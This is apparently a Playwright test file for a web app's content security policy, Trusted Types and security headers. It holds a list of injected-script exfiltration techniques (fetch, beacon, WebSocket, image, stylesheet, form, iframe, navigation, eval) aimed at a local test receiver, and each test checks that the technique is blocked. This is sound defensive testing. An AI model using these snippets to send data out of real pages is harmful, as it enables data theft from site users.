import { PAGE_HEADER_POLICY, PAGE_POLICY, SERVICE_WORKER_POLICY } from '../../src/browser/policy'
import { expectNoAxeViolations } from './support/axe'
import { expect, type Site, test } from './support/watch'

const SITES: readonly Site[] = ['with-headers', 'bare']

/** Each tries to get something out, or to run something, as injected script would. `stoppedBy`: the rule that must stop it. */
const LEAKS: readonly { name: string; stoppedBy: string; leak: (to: string) => void }[] = [
  {
    name: 'fetch',
    stoppedBy: 'connect-src',
    leak: (to) => void fetch(`${to}/fetch`, { method: 'POST', body: 'note' }),
  },
  {
    name: 'a beacon',
    stoppedBy: 'connect-src',
    leak: (to) => void navigator.sendBeacon(`${to}/beacon`, 'note'),
  },
  {
    name: 'a web socket',
    stoppedBy: 'connect-src',
    leak: (to) => void new WebSocket(to.replace('http', 'ws')),
  },
  { name: 'an image', stoppedBy: 'img-src', leak: (to) => void (new Image().src = `${to}/image?note`) },
  {
    name: 'a style sheet',
    stoppedBy: 'style-src-elem',
    leak: (to) => {
      const link = document.createElement('link')
      link.rel = 'stylesheet'
      link.href = `${to}/style?note`
      document.head.append(link)
    },
  },
  {
    // Of this window the page's own guard cancels it first: see below.
    name: 'a form for another window',
    stoppedBy: 'form-action',
    leak: (to) => {
      const form = document.createElement('form')
      form.action = `${to}/form`
      form.target = '_blank'
      document.body.append(form)
      form.submit()
    },
  },
  {
    name: 'a frame',
    stoppedBy: 'frame-src',
    leak: (to) => {
      const frame = document.createElement('iframe')
      frame.src = `${to}/frame?note`
      document.body.append(frame)
    },
  },
  { name: 'eval', stoppedBy: 'require-trusted-types-for', leak: () => void (0, eval)('document.title') },
  {
    name: 'innerHTML',
    stoppedBy: 'require-trusted-types-for',
    leak: () => void (document.createElement('div').innerHTML = '<b>note</b>'),
  },
  {
    name: 'a script element',
    stoppedBy: 'require-trusted-types-for',
    leak: (to) => void (document.createElement('script').src = `${to}/script`),
  },
  {
    name: 'a worker by its address',
    stoppedBy: 'require-trusted-types-for',
    leak: () => void new Worker(document.querySelector('script')?.src ?? ''),
  },
  {
    name: 'a policy that lets everything through',
    stoppedBy: 'trusted-types',
    leak: () => {
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy: (name: string, rules: object) => void }
      }
      trustedTypes.createPolicy('default', {})
    },
  },
]

for (const site of SITES) {
  test.describe(`policy, ${site}`, () => {
    test.use({ site })

    test('the page opens and shows a heading', async ({ page }) => {
      await page.goto('/')
      await expect(page).toHaveTitle(/Hustings/)
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
      await expectNoAxeViolations(page)
    })

    for (const { name, stoppedBy, leak } of LEAKS) {
      test(`${name} is stopped and noticed`, async ({ page, watch, receiver }) => {
        await page.goto('/')
        await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
        // In a later task: what runs directly under `evaluate` may use eval.
        await page.evaluate(`setTimeout(${leak.toString()}, 0, ${JSON.stringify(receiver.url)})`)
        await expect
          .poll(() =>
            watch.problems.filter((problem) => problem.kind === 'violation').map((problem) => problem.what),
          )
          .toContainEqual(expect.stringContaining(stoppedBy))
        expect(receiver.hits).toEqual([])
        await watch.take()
      })
    }
  })
}

const DEPARTURES: readonly (readonly [way: string, leave: (to: string) => void])[] = [
  [
    'by a form',
    (to) => {
      const form = document.createElement('form')
      form.action = `${to}/form`
      document.body.append(form)
      form.submit()
    },
  ],
  [
    'by its address',
    (to) => {
      location.href = `${to}/away?note`
    },
  ],
]

for (const site of SITES) {
  test.describe(`the page stays where it is, ${site}`, () => {
    test.use({ site })

    for (const [way, leave] of DEPARTURES) {
      test(`it cannot be taken away ${way}`, async ({ page, receiver }) => {
        await page.goto('/')
        await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
        const here = page.url()
        await page.evaluate(`setTimeout(${leave.toString()}, 0, ${JSON.stringify(receiver.url)})`)
        await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 500)))
        expect(page.url()).toBe(here)
        expect(receiver.hits).toEqual([])
      })
    }
  })
}

test.describe('the watch itself', () => {
  test('sees what a page without a policy sends, and the receiver counts it', async ({
    page,
    watch,
    receiver,
  }) => {
    await page.goto(`${receiver.url}/leaking-page`)
    await expect
      .poll(() => receiver.hits)
      .toEqual(
        expect.arrayContaining([
          'GET /leaking-page',
          'GET /from-page',
          'GET /from-image',
          'GET /from-worker',
        ]),
      )
    const seen = (await watch.take()).map((problem) => problem.what)
    expect(seen).toEqual(expect.arrayContaining([`${receiver.url}/from-page`, `${receiver.url}/from-worker`]))
    receiver.hits.length = 0
  })

  test('sees an error of the page and an error on the console', async ({ page, watch }) => {
    await page.goto('/')
    await page.evaluate(() => {
      console.error('said on purpose')
      setTimeout(() => {
        throw new Error('thrown on purpose')
      })
    })
    await expect.poll(() => watch.problems.map((problem) => problem.kind)).toContain('page-error')
    expect((await watch.take()).map((problem) => problem.kind)).toContain('console-error')
  })
})

test.describe('headers', () => {
  test('stop what a content policy does not: going elsewhere, and opening elsewhere', async ({
    page,
    browser,
    watch,
    receiver,
  }) => {
    test.skip(Number.parseInt(browser.version()) < 152, 'Connection-Allowlist came with Chromium 152')
    await page.goto('/')
    await page.evaluate(
      `setTimeout((to) => { window.open(to + '/opened?note') }, 0, ${JSON.stringify(receiver.url)})`,
    )
    await page.waitForTimeout(500)
    await page.evaluate(
      `setTimeout((to) => { location.href = to + '/gone?note' }, 0, ${JSON.stringify(receiver.url)})`,
    )
    await page.waitForTimeout(500)
    expect(receiver.hits).toEqual([])
    await watch.take()
  })

  test('stand on the page, on an asset and on what does not exist', async ({ page, request }) => {
    await page.goto('/')
    const asset = await page.evaluate(() => document.querySelector('script')?.src ?? '')
    const expected = [
      { path: '/', status: 200, cache: 'no-cache' },
      { path: asset, status: 200, cache: 'public, max-age=31536000, immutable' },
      { path: '/no-such-page', status: 404, cache: 'no-cache' },
      { path: '/assets/no-such-file.js', status: 404, cache: 'no-cache' },
    ]
    for (const { path, status, cache } of expected) {
      const response = await request.get(path)
      const headers = response.headers()
      expect(response.status(), path).toBe(status)
      expect(headers, path).toMatchObject({
        'content-security-policy': PAGE_HEADER_POLICY,
        'connection-allowlist': expect.stringMatching(/^\(response-origin.*\); webrtc=block$/),
        'permissions-policy': expect.stringContaining('camera=(), microphone=()'),
        'referrer-policy': 'no-referrer',
        'x-content-type-options': 'nosniff',
        'x-dns-prefetch-control': 'off',
        'cross-origin-opener-policy': 'same-origin',
        'cross-origin-embedder-policy': 'require-corp',
        'cross-origin-resource-policy': 'same-origin',
        'cache-control': cache,
      })
    }
  })

  test('of the service worker let it fill its cache, and nothing more', async ({ request }) => {
    const response = await request.get('/sw.js')
    expect(response.headers()['content-security-policy']).toBe(SERVICE_WORKER_POLICY)
  })

  test('are compressed answers, and the page carries the policy itself', async ({ request }) => {
    const response = await request.get('/', { headers: { 'Accept-Encoding': 'gzip' } })
    expect(await response.text()).toContain(`content="${PAGE_POLICY}"`)
    const script = /src="\.?(\/assets\/[^"]+\.js)"/.exec(await response.text())?.[1] ?? ''
    expect((await request.get(script)).headers()['content-encoding']).toBe('gzip')
  })
})

test.describe('a host that sends no headers', () => {
  test.use({ site: 'bare' })

  test('is what the bare site is', async ({ request }) => {
    const headers = (await request.get('/')).headers()
    expect(headers['content-security-policy']).toBeUndefined()
    expect(headers['connection-allowlist']).toBeUndefined()
  })
})
